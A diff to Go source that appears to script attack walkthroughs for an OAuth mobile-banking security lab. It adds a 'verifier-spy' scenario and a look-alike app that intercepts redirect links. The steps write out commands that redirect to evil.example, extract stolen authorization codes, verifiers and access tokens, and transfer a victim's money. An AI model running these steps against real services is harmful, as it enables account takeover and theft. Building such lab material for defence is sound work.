@@ -239,7 +239,7 @@ var byName = map[string][]step{
 		say("Open the page with the request in its address, as it was before requests were pushed. The mediator knows no such request: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=https://evil.example/callback {tokens}/authorize`.").at(pushes),
 	),
 	"code-hijack": steps(
-		theCA, thePackage, theThief,
+		theCA, thePackage, theThief(""),
 		say("Take the access token out of the link that came to yours: `python3 -c 'import json, urllib.parse as u; print(u.parse_qs(u.urlsplit(json.loads(open(\"caught.txt\").readline())[\"link\"]).fragment)[\"access_token\"][0])' > token.txt`.").at(inFragments),
 		say("Book a transfer with a program of your own: `{curl} -H '{proof}: key harbour-mobile' -H \"Authorization: Bearer $(cat token.txt)\" --json '{rob}' {api}/v1/transfers`.").at(inFragments),
 		passwordOf("mallory").at(appSecret), signIn("mallory").at(appSecret),
@@ -249,10 +249,20 @@ var byName = map[string][]step{
 		tryToExchange.at(mediated),
 	),
 	"code-relay": steps(
-		thePackage, theThief,
+		thePackage, theThief(""),
 		say("Begin to sign in with the genuine app on your own phone, open it with a link that carries its own state and the victim's code, and transfer the victim's money: `mobileclient --phone relay-{stage} --stage {stage} --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(inURLs),
 		passwordOf("mallory").at(pushes),
 		say("Begin to sign in with the genuine app on your own phone. Its state is in no address but the one that leads back, so sign in there, keep that link from the app, and open the app with one that carries its own state and the victim's code: `mobileclient --phone relay-{stage} --stage {stage} --user mallory --password-file mallory.txt --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. The code is bound to a verifier that the victim's app has made up, and to her phone.").at(pushes),
+	),
+	"verifier-spy": steps(
+		theCA, thePackage,
+		passwordOf("mallory"), signIn("mallory"), hooked,
+		theThief(" --spy addresses.txt"),
+		say("An extension in her user agent has told you the addresses that it went through. What the code is bound to stands in the first: `grep -o 'code_challenge=[^&]*' addresses.txt | head -n 1 | cut -d = -f 2 > verifier.txt`.").at(withChallenges),
+		say("That is the verifier itself. Exchange the code with it, and with the client integrity token of your own app, while that is good: `{fetch} -H @loot/integrity.txt -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" --data-urlencode \"code_verifier=$(cat verifier.txt)\" {tokens}/token > token.json`.").at(inRequests),
+		say("Keep the field that stands for the victim: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > stolen.txt`.").at(inRequests),
+		say("Transfer the victim's money to your own account: `{curl} -H @loot/integrity.txt -H @stolen.txt --json '{rob}' {api}/v1/transfers`.").at(inRequests),
+		say("That is the hash of the verifier. Try it in its place, with the client integrity token of your own app: `{curl} -H @loot/integrity.txt -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" --data-urlencode \"code_verifier=$(cat verifier.txt)\" {tokens}/token`. Nothing fits the hash but the verifier, which is in the memory of the victim's app.").at(hashedInRequests),
 	),
 	"refresh-reuse": steps(
 		theCA,
@@ -268,13 +278,16 @@ var byName = map[string][]step{
 	),
 }
 
-// theThief is an app beside the genuine one on the victim's phone, to which the redirect goes.
-var theThief = slices.Concat(
-	beside("make an app of your own that claims the links which lead back to the bank's, and wait for what comes: `stages intercept look-alike --claim-links --listen 127.0.0.1:8083 {package} thief.pkg > caught.txt`."),
-	passwordOf("alice"),
-	say("Get it onto the victim's phone, beside the bank's app, and wait until she signs in with that: `mobileclient --phone robbed-{attack}-{stage} --stage {stage} --beside thief.pkg sign-in --user alice --password-file alice.txt`. The app is told nothing: the phone gives the link to the app that was installed last."),
-	say("Take the code out of the link that came to yours: `python3 -c 'import json, urllib.parse as u; print(u.parse_qs(u.urlsplit(json.loads(open(\"caught.txt\").readline())[\"link\"]).query)[\"code\"][0])' > code.txt`.").at(withCodes),
-)
+// theThief is an app beside the genuine one on the victim's phone, to which the redirect goes. The
+// flags are for that phone.
+func theThief(flags string) walk {
+	return slices.Concat(
+		beside("make an app of your own that claims the links which lead back to the bank's, and wait for what comes: `stages intercept look-alike --claim-links --listen 127.0.0.1:8083 {package} thief.pkg > caught.txt`."),
+		passwordOf("alice"),
+		say("Get it onto the victim's phone, beside the bank's app, and wait until she signs in with that: `mobileclient --phone robbed-{attack}-{stage} --stage {stage}"+flags+" --beside thief.pkg sign-in --user alice --password-file alice.txt`. The app is told nothing: the phone gives the link to the app that was installed last."),
+		say("Take the code out of the link that came to yours: `python3 -c 'import json, urllib.parse as u; print(u.parse_qs(u.urlsplit(json.loads(open(\"caught.txt\").readline())[\"link\"]).query)[\"code\"][0])' > code.txt`.").at(withCodes),
+	)
+}
 
 // tryToExchange shows a stolen code to the mediator.
 var tryToExchange = say("Try to have it exchanged: `{curl} -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" {tokens}/token`. The mediator looks at the app before it looks at the code, and your program has nothing to show: this is where it ends.")
